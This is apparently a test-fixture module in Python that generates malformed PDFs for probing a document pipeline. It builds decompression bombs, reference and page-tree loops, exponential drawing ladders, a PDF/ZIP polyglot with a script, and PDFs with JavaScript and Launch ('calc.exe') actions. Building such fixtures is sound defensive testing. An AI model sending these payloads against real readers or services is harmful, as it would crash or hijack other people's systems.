"""Documents built to exhaust or to fool whoever opens them; small, and nobody's work but ours."""

import io
import zipfile
import zlib
from collections.abc import Mapping

from pikepdf import Dictionary, Name, Pdf

from world.documents import changed, letter

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(content), extra, content)


def assembled(
    objects: Mapping[int, bytes], trailer: bytes = b"", *, size: int | None = None
) -> bytes:
    """A document with a classic cross-reference table, from bodies of objects."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    last = max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        kind = b"n" if number in places else b"f"
        out += b"%010d %05d %b \n" % (places.get(number, 0), 0 if number in places else 65535, kind)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        size or last + 1, trailer, start,
    )  # fmt: skip
    return bytes(out)


def minimal() -> bytes:
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE})


def noughts(size: int) -> bytes:
    """So many noughts, deflated: one block of a mebibyte, repeated, and the checksum that fits."""
    engine = zlib.compressobj(9, wbits=-15)
    block = engine.compress(bytes(1 << 20)) + engine.flush(zlib.Z_FULL_FLUSH)
    checksum = (size % 65521) << 16 | 1
    return b"\x78\xda" + block * (size >> 20) + b"\x03\x00" + checksum.to_bytes(4, "big")


def bomb(layers: int = 2) -> bytes:
    """A page of 2 GiB in a few kilobytes: deflated, and deflated again."""
    content = noughts(2 << 30)
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    packed = stream(content, b"/Filter[" + b"/FlateDecode" * layers + b"]")
    return assembled({1: CATALOGUE, 2: PAGES, 3: page, 4: packed})


def object_stream_bomb() -> bytes:
    """An object stream that unpacks to a gibibyte."""
    content = noughts(1 << 30)
    packed = stream(content, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE, 4: packed})


def lzw_bomb() -> bytes:
    """LZW codes that each repeat the longest string so far: 12 bits for thousands of bytes."""
    codes = [256, 0, *range(258, 258 + 3800)] * 40
    bits, width, table = "", 9, 258
    for code in codes:
        bits += format(code, f"0{width}b")
        if code == 256:
            width, table = 9, 257
        else:
            table += 1
        width = 9 + (table > 510) + (table > 1022) + (table > 2046)
    bits += "0" * (-len(bits) % 8)
    content = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE, 4: stream(content, b"/Filter/LZWDecode")})


def run_length_bomb() -> bytes:
    content = b"\x81\x00" * 2_000_000
    return assembled(
        {1: CATALOGUE, 2: PAGES, 3: PAGE, 4: stream(content, b"/Filter/RunLengthDecode")}
    )


def picture_bomb() -> bytes:
    """An image of a thousand gigapixels in some bytes."""
    image = stream(
        b"\0", b"/Type/XObject/Subtype/Image/Width 1000000/Height 1000000/Filter/DCTDecode"
    )
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE, 4: image})


def page_loop() -> bytes:
    return assembled({1: CATALOGUE, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>", 3: PAGE})


def page_ladder(depth: int = 200) -> bytes:
    """A page tree as deep as a well."""
    objects = {1: CATALOGUE}
    for number in range(2, depth + 2):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (
            number + 1, number - 1,
        )  # fmt: skip
    objects[depth + 2] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (depth + 1)
    return assembled(objects)


def page_fan(width: int = 12, depth: int = 6) -> bytes:
    """A page tree in which every level points many times to the next: 12^6 pages in 8 objects."""
    objects = {1: CATALOGUE}
    for number in range(2, depth + 2):
        kids = b" ".join([b"%d 0 R" % (number + 1)] * width)
        objects[number] = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, width)
    objects[depth + 2] = PAGE
    return assembled(objects)


def nested(depth: int = 100_000) -> bytes:
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE, 4: b"[" * depth + b"]" * depth})


def nested_annotations(depth: int = 5_000) -> bytes:
    page = PAGE[:-2] + b"/Annots " + b"[" * depth + b"]" * depth + b">>"
    return assembled({1: CATALOGUE, 2: PAGES, 3: page})


def field_loop() -> bytes:
    catalogue = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>"
    return assembled(
        {1: catalogue, 2: PAGES, 3: PAGE, 4: b"<</T(a)/Kids[5 0 R]>>", 5: b"<</T(b)/Kids[4 0 R]>>"}
    )


def length_loop() -> bytes:
    """A stream whose length is the stream."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    looping = b"<</Length 4 0 R>>stream\nq Q\nendstream"
    return assembled({1: CATALOGUE, 2: PAGES, 3: page, 4: looping})


def xref_loop() -> bytes:
    document = minimal()
    start = document.rindex(b"startxref")
    offset = int(document[start:].split()[1])
    return document.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % offset)


def huge_size() -> bytes:
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE}, size=2**31)


def endless_xref() -> bytes:
    document = minimal()
    return document.replace(b"xref\n0 4\n", b"xref\n0 999999999\n")


def root_that_is_itself() -> bytes:
    return assembled({1: b"1 0 R", 2: PAGES, 3: PAGE})


def many_objects(count: int = 210_000) -> bytes:
    return assembled({1: CATALOGUE, 2: PAGES, 3: PAGE} | dict.fromkeys(range(4, count), b"0"))


def zip_polyglot() -> bytes:
    """A document that is also a ZIP file."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("surat.html", "<script>alert(1)</script>")
    return letter() + packed.getvalue()


def with_scripts() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F="calc.exe"))
        pdf.attachments["lampiran.txt"] = b"isi"

    return changed(letter(), add)


def dynamic_form() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.Root.NeedsRendering = True
        xfa = pdf.make_stream(b"<xdp/>")
        pdf.Root.AcroForm = Dictionary(Fields=[], XFA=xfa)

    return changed(letter(), add)


def _with(catalogue: bytes, page: bytes, *more: bytes) -> bytes:
    """One page, further keys in catalogue and page, further objects from 4 on."""
    bodies = (CATALOGUE[:-2] + catalogue + b">>", PAGES, PAGE[:-2] + page + b">>", *more)
    return assembled(dict(enumerate(bodies, 1)))


def action_loop() -> bytes:
    """Actions that follow one another for ever (ISO 32000-2 §12.6.2)."""
    action = b"<</S/URI/URI(https://contoh.test/)/Next %d 0 R>>"
    return _with(b"/OpenAction 4 0 R", b"", action % 5, action % 4)


def outline_loop() -> bytes:
    """A table of contents in which each entry follows and contains the other."""
    entry = b"<</Title(a)/Parent 4 0 R/Next %d 0 R/Prev %d 0 R/First %d 0 R/Last %d 0 R>>"
    return _with(
        b"/Outlines 4 0 R",
        b"",
        b"<</Type/Outlines/First 5 0 R/Last 6 0 R/Count 2>>",
        entry % (6, 6, 6, 6),
        entry % (5, 5, 5, 5),
    )


def name_loop() -> bytes:
    """A tree of names whose branches are one another."""
    return _with(b"/Names<</Dests 4 0 R>>", b"", b"<</Kids[5 0 R]>>", b"<</Kids[4 0 R]>>")


def drawing_loop() -> bytes:
    """A drawing that draws itself, twice each time."""
    resources = b"/Resources<</XObject<</A 5 0 R>>>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + resources
    return _with(
        b"", b"/Contents 4 0 R" + resources, stream(b"/A Do /A Do"), stream(b"/A Do /A Do", form)
    )


def drawing_ladder(depth: int = 25) -> bytes:
    """Each drawing draws the next one twice: thirty million drawings in the end."""
    steps = []
    for number in range(5, 5 + depth):
        resources = b"/Resources<</XObject<</A %d 0 R>>>>" % (number + 1)
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
        last = number == 4 + depth
        drawn = b"0 0 9 9 re f" if last else b"/A Do /A Do"
        steps.append(stream(drawn, head if last else head + resources))
    page = b"/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>"
    return _with(b"", page, stream(b"/A Do"), *steps)


def pattern_loop() -> bytes:
    """A pattern that is painted with itself."""
    resources = b"/Resources<</Pattern<</P 5 0 R>>>>"
    pattern = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9"
        + resources
    )
    painting = b"/Pattern cs /P scn 0 0 595 842 re f"
    return _with(b"", b"/Contents 4 0 R" + resources, stream(painting), stream(painting, pattern))


def calculating_function(size: int = 60_000) -> bytes:
    """A colour that takes sixty thousand steps to compute (ISO 32000-2 §7.10.5)."""
    space = b"/Resources<</ColorSpace<</C[/Separation/S/DeviceGray 5 0 R]>>>>"
    function = b"{ " + b"dup mul " * size + b"}"
    said = b"/FunctionType 4/Domain[0 1]/Range[0 1]"
    drawn = b"/C cs " + b"0.5 scn 0 0 9 9 re f " * 200
    return _with(b"", b"/Contents 4 0 R" + space, stream(drawn), stream(function, said))


def loop_of_references() -> bytes:
    """A value that is a reference to a reference to itself."""
    return _with(b"/Lang 4 0 R", b"/Contents 4 0 R", b"5 0 R", b"4 0 R")
